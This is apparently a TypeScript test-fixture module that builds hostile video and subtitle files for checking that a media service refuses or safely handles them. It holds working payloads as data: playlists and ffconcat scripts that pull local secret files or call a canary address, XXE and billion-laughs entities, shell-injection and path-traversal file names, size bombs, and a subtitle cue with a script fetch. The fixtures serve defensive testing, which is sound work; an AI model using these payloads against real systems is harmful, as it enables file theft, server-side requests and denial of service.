import { readFile, truncate, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { ffmpeg } from '../test/sources.ts'

/** What must become of a file: `read` has to work, `refused` has to be refused with a sentence, `bounded` may do either. */
type Expected = 'read' | 'refused' | 'bounded'

export interface HostileFile {
  what: string
  fileName: string
  kind: 'master' | 'subtitles'
  expected: Expected
  make: (file: string) => Promise<unknown>
}

export interface Traps {
  /** An address of which every connection is noticed. */
  canary: string
  /** A real film that no job was given. */
  secretFilm: string
  secretText: string
}

const clip = ['-f', 'lavfi', '-i', 'testsrc2=size=128x72:rate=10:duration=2', '-f', 'lavfi', '-i', 'sine=duration=2']
const codecs = '-c:v libx264 -preset ultrafast -c:a aac'.split(' ')

export const makeClip = async (file: string, ...more: string[]): Promise<unknown> =>
  ffmpeg(clip, codecs, more, '-f', 'mp4', file)

const textFile = (text: string | Buffer) => async (file: string) => writeFile(file, text)

/** The same sequence every time, so that a file that did harm can be made again. */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state / 2 ** 32
  }
}

function box(type: string, ...contents: Buffer[]): Buffer {
  const header = Buffer.alloc(8)
  header.writeUInt32BE(contents.reduce((sum, content) => sum + content.length, 8))
  header.write(type, 4, 'latin1')
  return Buffer.concat([header, ...contents])
}

export function hostileFiles({ canary, secretFilm, secretText }: Traps): HostileFile[] {
  return [
    ...playlists(canary, secretFilm),
    ...scripts(canary, secretFilm, secretText),
    ...names(),
    ...attachments(canary),
    ...bombs(),
    ...damaged(),
    ...subtitles(canary, secretText),
  ]
}

function playlists(canary: string, secretFilm: string): HostileFile[] {
  const hls = (address: string, before = '') =>
    `#EXTM3U\n#EXT-X-TARGETDURATION:10\n${before}#EXTINF:10,\n${address}\n#EXT-X-ENDLIST\n`
  const all: [string, string, string | Buffer][] = [
    ['HLS with an address', 'a.m3u8', hls(`${canary}/a.ts`)],
    ['HLS called MP4', 'a.mp4', hls(`${canary}/b.ts`)],
    ['HLS called Matroska', 'a.mkv', hls(`${canary}/c.ts`)],
    ['HLS with a file', 'b.m3u8', hls(`file://${secretFilm}`)],
    ['HLS with a concatenation', 'c.m3u8', hls(`concat:${secretFilm}|${canary}/d`)],
    ['HLS with a key elsewhere', 'd.m3u8', hls(secretFilm, `#EXT-X-KEY:METHOD=AES-128,URI="${canary}/key"\n`)],
    ['HLS with a subfile', 'e.m3u8', hls(`subfile,,start,0,end,100,,:${secretFilm}`)],
    ['HLS with data', 'f.m3u8', hls('data:video/mp4;base64,AAAA')],
    [
      'DASH',
      'a.mpd',
      `<?xml version="1.0"?><MPD><Period><BaseURL>${canary}/</BaseURL><AdaptationSet><Representation id="1"/></AdaptationSet></Period></MPD>`,
    ],
    [
      'SDP',
      'a.sdp',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${new URL(canary).port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['Windows playlist', 'a.asx', `<asx><entry><ref href="${canary}/a"/></entry></asx>`],
    ['PLS', 'a.pls', `[playlist]\nFile1=${canary}/a\nNumberOfEntries=1\n`],
    [
      'reference movie of QuickTime',
      'reference.mov',
      Buffer.concat([
        box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')),
        box(
          'moov',
          box(
            'rmra',
            box('rmda', box('rdrf', Buffer.from('\0\0\0\0url \0\0\0\x40'), Buffer.from(`${canary}/movie.mov\0`))),
          ),
        ),
      ]),
    ],
  ]
  return all.map(([what, fileName, text]) => ({
    what,
    fileName,
    kind: 'master',
    expected: 'refused',
    make: textFile(text),
  }))
}

function scripts(canary: string, secretFilm: string, secretText: string): HostileFile[] {
  const all: [string, string, string][] = [
    ['concat script', 'a.ffconcat', `ffconcat version 1.0\nfile '${secretFilm}'\n`],
    ['concat script called MP4', 'concat.mp4', `ffconcat version 1.0\nfile '${secretFilm}'\n`],
    ['concat script with an address', 'b.ffconcat', `ffconcat version 1.0\nfile '${canary}/a.mp4'\n`],
    ['concat script with a text', 'c.ffconcat', `ffconcat version 1.0\nfile '${secretText}'\n`],
    [
      'concat script with options',
      'd.ffconcat',
      `ffconcat version 1.0\nfile '${secretFilm}'\noption safe 0\noption protocol_whitelist http,tcp,file\n`,
    ],
    ['graph of filters', 'lavfi.mp4', `movie=${secretFilm}[out0]`],
    ['metadata of ffmpeg', 'meta.mp4', ';FFMETADATA1\ntitle=x\n[STREAM]\n'],
    [
      'picture that names others',
      'a.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${canary}/a.png" width="10" height="10"/></svg>`,
    ],
    ['web page', 'a.html', `<meta http-equiv="refresh" content="0;url=${canary}/">`],
  ]
  return all.map(([what, fileName, text]) => ({
    what,
    fileName,
    kind: 'master',
    expected: 'refused',
    make: textFile(text),
  }))
}

/** Real films with names that mean something to a shell, to ffmpeg, or to a path. */
function names(): HostileFile[] {
  const all = [
    '-i',
    '-f lavfi -i testsrc',
    '--help',
    'pipe:0',
    'concat:a|b.mp4',
    'film%03d.mp4',
    '*.mp4',
    '$(touch escaped).mp4',
    '`touch escaped`.mp4',
    'a;touch escaped;.mp4',
    'quote\'"quote.mp4',
    'line\nbreak.mp4',
    '..mp4',
    '\u202E4pm.film',
  ]
  return all.map((fileName) => ({
    what: `name ${JSON.stringify(fileName)}`,
    fileName,
    kind: 'master',
    expected: 'read',
    make: async (file) => makeClip(`file:${file}`),
  }))
}

function attachments(canary: string): HostileFile[] {
  const withAttachment = (name: string, type: string, text: string) => async (file: string) => {
    const attached = path.join(path.dirname(file), 'attached')
    await writeFile(attached, text)
    return ffmpeg(
      clip,
      codecs,
      '-attach',
      attached,
      '-metadata:s:t:0',
      `filename=${name}`,
      '-metadata:s:t:0',
      `mimetype=${type}`,
      '-f',
      'matroska',
      file,
    )
  }
  const all: [string, string, string][] = [
    ['../../../escaped.sh', 'application/x-sh', '#!/bin/sh\ntouch escaped\n'],
    ['/tmp/escaped-absolute', 'text/plain', 'escaped'],
    ['font.ttf', 'application/x-truetype-font', 'not a font'],
    ['list.m3u8', 'application/vnd.apple.mpegurl', `#EXTM3U\n#EXTINF:1,\n${canary}/attached.ts\n`],
  ]
  return all.map(([name, type, text], at) => ({
    what: `attachment ${name}`,
    fileName: `attachment-${at}.mkv`,
    kind: 'master',
    expected: 'read',
    make: withAttachment(name, type, text),
  }))
}

/** Small files that would become large, or long, or deep. */
function bombs(): HostileFile[] {
  const patched = (search: Buffer, replacement: Buffer) => async (file: string) => {
    await makeClip(file)

    const bytes = await readFile(file)
    for (let at = bytes.indexOf(search); at >= 0; at = bytes.indexOf(search, at + 1)) replacement.copy(bytes, at)
    await writeFile(file, bytes)
  }
  const deep = (levels: number) => {
    let inner: Buffer = Buffer.alloc(0)
    for (let level = 0; level < levels; level += 1) inner = box('moov', inner)
    return Buffer.concat([box('ftyp', Buffer.from('isom\0\0\0\0isom')), inner])
  }
  return [
    {
      what: 'a picture of 60 000 x 60 000',
      fileName: 'huge.mp4',
      kind: 'master',
      expected: 'bounded',
      // Width and height of the sample description.
      make: patched(Buffer.from([0, 128, 0, 72]), Buffer.from([0xea, 0x60, 0xea, 0x60])),
    },
    {
      what: 'a picture of 12 000 x 8 000',
      fileName: 'large.mkv',
      kind: 'master',
      expected: 'refused',
      make: async (file) =>
        ffmpeg('-f', 'lavfi', '-i', 'color=size=12000x8000:rate=1:duration=2', '-c:v', 'ffv1', '-level', '1', file),
    },
    {
      what: 'a duration of 8 000 years',
      fileName: 'long.mp4',
      kind: 'master',
      expected: 'bounded',
      make: patched(
        Buffer.from('mvhd\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x03\xe8\0\0', 'latin1'),
        Buffer.from('mvhd\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x01\xff\xff', 'latin1'),
      ),
    },
    {
      what: 'a frame a day for a year',
      fileName: 'slow.mkv',
      kind: 'master',
      expected: 'refused',
      make: async (file) =>
        ffmpeg(
          '-f',
          'lavfi',
          '-i',
          'color=size=64x64:rate=1:duration=300',
          '-vf',
          'setpts=N*86400/TB',
          '-fps_mode',
          'vfr',
          '-c:v',
          'ffv1',
          file,
        ),
    },
    {
      what: 'four thousand million samples',
      fileName: 'samples.mp4',
      kind: 'master',
      expected: 'bounded',
      make: async (file) => {
        await makeClip(file)

        const bytes = await readFile(file)
        const at = bytes.indexOf('stsz')
        bytes.writeUInt32BE(0xff_ff_ff_ff, at + 12)
        await writeFile(file, bytes)
      },
    },
    {
      what: 'boxes in boxes, 20 000 deep',
      fileName: 'deep.mp4',
      kind: 'master',
      expected: 'refused',
      make: async (file) => writeFile(file, deep(20_000)),
    },
    {
      what: 'ninety audio tracks',
      fileName: 'tracks.mkv',
      kind: 'master',
      expected: 'bounded',
      make: async (file) =>
        ffmpeg(
          clip,
          Array.from({ length: 90 }, () => ['-map', '1:a']).flat(),
          '-map',
          '0:v',
          '-c:v',
          'libx264',
          '-preset',
          'ultrafast',
          '-c:a',
          'pcm_s16le',
          file,
        ),
    },
    {
      what: 'sparse zeros, 8 GB',
      fileName: 'sparse.mp4',
      kind: 'master',
      expected: 'refused',
      make: async (file) => {
        await writeFile(file, '')
        await truncate(file, 8 * 1024 ** 3)
      },
    },
    {
      what: 'ten thousand subtitles at once',
      fileName: 'subtitles.mkv',
      kind: 'master',
      expected: 'read',
      make: async (file) => {
        const srt = path.join(path.dirname(file), 'many.srt')
        await writeFile(
          srt,
          Array.from(
            { length: 10_000 },
            (_, at) => `${at}\n00:00:00,000 --> 00:00:02,000\n{\\an8}<b>${'x'.repeat(80)}\n`,
          ).join('\n'),
        )
        return ffmpeg(clip, '-i', srt, '-map', '0:v', '-map', '1:a', '-map', '2:s', codecs, '-c:s', 'ass', file)
      },
    },
    {
      what: 'a thousand frames a second',
      fileName: 'fast.mkv',
      kind: 'master',
      expected: 'bounded',
      make: async (file) => ffmpeg('-f', 'lavfi', '-i', 'color=size=64x64:rate=1000:duration=2', '-c:v', 'ffv1', file),
    },
    {
      what: 'a compressed archive',
      fileName: 'archive.mp4',
      kind: 'master',
      expected: 'refused',
      make: textFile(Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'), Buffer.alloc(4000, 1)])),
    },
  ]
}

/** Films with wrong bytes in them: whatever ffmpeg does with it, it does in its sandbox. */
function damaged(): HostileFile[] {
  const formats = ['mp4', 'matroska', 'mpegts', 'avi'] as const
  return formats.flatMap((format, index) =>
    [1, 2].map((round): HostileFile => ({
      what: `${format} with wrong bytes, ${round}`,
      fileName: `damaged-${round}.${format}`,
      kind: 'master',
      expected: 'bounded',
      make: async (file) => {
        await ffmpeg(clip, codecs, '-f', format, file)

        const bytes = await readFile(file)
        const next = random(index * 10 + round)
        for (let left = bytes.length / (round * 200); left > 0; left -= 1) {
          bytes[Math.floor(next() * bytes.length)] = Math.floor(next() * 256)
        }
        await writeFile(file, bytes)
      },
    })),
  )
}

function subtitles(canary: string, secretText: string): HostileFile[] {
  const paragraph = (text: string) => `<tt><body><div><p begin="1s" end="2s">${text}</p></div></body></tt>`
  const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
  const all: [string, string, string | Buffer, Expected][] = [
    [
      'entity of a file',
      'a.ttml',
      `<?xml version="1.0"?><!DOCTYPE tt [<!ENTITY x SYSTEM "file://${secretText}">]>${paragraph('&x;')}`,
      'refused',
    ],
    [
      'entity of an address',
      'b.ttml',
      `<!DOCTYPE tt [<!ENTITY x SYSTEM "${canary}/xxe">]>${paragraph('&x;')}`,
      'refused',
    ],
    [
      'parameter entity',
      'c.ttml',
      `<!DOCTYPE tt [<!ENTITY % p SYSTEM "${canary}/dtd">%p;]>${paragraph('x')}`,
      'refused',
    ],
    ['document type elsewhere', 'd.dfxp', `<!DOCTYPE tt SYSTEM "${canary}/tt.dtd">${paragraph('x')}`, 'refused'],
    ['a billion laughs', 'e.ttml', `<!DOCTYPE tt [<!ENTITY l0 "ha">${laughs}]>${paragraph('&l12;')}`, 'refused'],
    [
      'inclusion',
      'f.ttml',
      paragraph(`x<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretText}" parse="text"/>`),
      'read',
    ],
    [
      'style sheet elsewhere',
      'g.ttml',
      `<?xml version="1.0"?><?xml-stylesheet href="${canary}/a.xsl"?>${paragraph('x')}`,
      'read',
    ],
    [
      'WebVTT with a style sheet',
      'h.vtt',
      `WEBVTT\n\nSTYLE\n@import url(${canary}/a.css);\n\n00:01.000 --> 00:02.000\n<script>fetch('${canary}')</script><img src=${canary}>x\n`,
      'read',
    ],
    ['one line of 9 MB', 'i.srt', `1\n00:00:01,000 --> 00:00:02,000\n${'<i>'.repeat(3_000_000)}`, 'refused'],
    ['elements in elements', 'j.ttml', `<tt>${'<div>'.repeat(500_000)}`, 'refused'],
    [
      'STL with impossible values',
      'k.stl',
      Buffer.concat([Buffer.from('850STL25.01'), Buffer.alloc(1013, 0x39), Buffer.alloc(128 * 2000, 0xff)]),
      'bounded',
    ],
    [
      'UTF-16 with halves of signs',
      'l.srt',
      Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from('1\n00:00:01,000 --> 00:00:02,000\nx', 'utf16le'),
        Buffer.from([0, 0xd8, 0, 0xdc, 0]),
      ]),
      'bounded',
    ],
  ]
  return all.map(([what, fileName, text, expected]) => ({
    what,
    fileName,
    kind: 'subtitles',
    expected,
    make: textFile(text),
  }))
}
